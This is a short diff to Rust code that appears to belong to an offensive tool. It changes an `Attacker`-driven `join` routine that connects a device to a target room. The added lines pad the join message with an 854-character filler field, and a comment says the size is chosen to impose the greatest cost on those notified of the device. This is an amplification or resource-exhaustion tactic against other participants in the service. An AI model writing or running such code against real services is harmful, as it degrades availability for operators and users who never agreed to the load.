@@ -40,7 +40,11 @@ impl Device {
     pub(super) async fn join(attacker: &Attacker, presentation: &str) -> Result<Self> {
         let mut device = Self::open(attacker).await?;
         let room = &attacker.target.room;
-        let join = json!({ "type": "join", "roomId": room, "auth": presentation });
+        // The longest that there is: it costs those who are told of the device most.
+        let hello = "A".repeat(854);
+        let join = json!({
+            "type": "join", "roomId": room, "auth": presentation, "hello": hello,
+        });
         device.say(&join).await?;
         let answer = timeout(PATIENCE, device.hear()).await;
         let answer = answer.context("no place in time")??;
